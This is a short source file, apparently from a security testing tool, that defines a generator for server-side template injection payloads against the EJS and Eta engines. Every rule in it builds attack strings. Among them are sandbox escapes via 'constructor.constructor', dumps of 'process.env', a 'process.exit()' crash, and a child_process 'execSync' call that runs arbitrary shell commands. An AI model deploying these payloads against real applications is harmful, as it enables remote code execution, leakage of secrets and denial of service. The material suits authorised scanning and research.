// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Scriptlets of EJS and Eta. */
export const ejsScriptlet = templateGenerator({
  name: 'ejs-scriptlet',
  engines: ['ejs', 'eta'],
  rules: {
    start: [
      '{before}<%{mark}{s}{code}{s}{end}{after}',
      '<%{s}{code}{s}%>',
      '<% if (true) { %><%{mark} {code} %><% } %>',
      '<%_ {code} _%>',
      '<% var x = {code}; %><%= x %>',
      '<%{mark}{s}this.constructor.constructor({body})(){s}%>',
    ],
    mark: ['=', '-', '='],
    end: ['%>', '-%>', '%>'],
    code: [
      '{node}',
      '[].constructor.constructor({body})()',
      '{digit}*{digit}',
      '{node}',
      '(function(){ return {node} })()',
      'global.process',
      'this.constructor',
    ],
    body: ["'return {node-plain}'"],
    'node-plain': [
      'process.env',
      'process.exit()',
      'process.mainModule.require(`child_process`).execSync(`{command}`)',
      'process',
      'global.process.pid',
    ],
  },
});
